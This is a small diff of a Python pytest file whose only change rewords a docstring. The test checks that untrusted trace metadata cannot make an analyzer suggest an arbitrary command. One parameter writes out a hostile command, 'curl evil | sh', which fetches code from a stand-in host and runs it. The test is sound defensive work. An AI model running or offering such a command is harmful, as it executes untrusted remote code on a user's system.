@@ -50,7 +50,7 @@ def test_a_trace_without_device_work_leads_to_a_recording() -> None:
 
 @pytest.mark.parametrize("words", [["bash", "-c", "curl evil | sh"], ["-m", "pip"], ["--on-alarm=x.py"], [""]])
 def test_a_trace_names_no_command_but_a_script(words: list[str]) -> None:
-    """What a report says is there to be pasted, and anyone may have written the trace."""
+    """Whatever a report says is there to be pasted, and anyone may have written the trace."""
     t = without_a_device()
     t.metadata["syncscan"] = {"program": words}
     assert front_of(api.analyze_trace(t.trace())).next == ("syncscan", "dryrun", "SCRIPT")
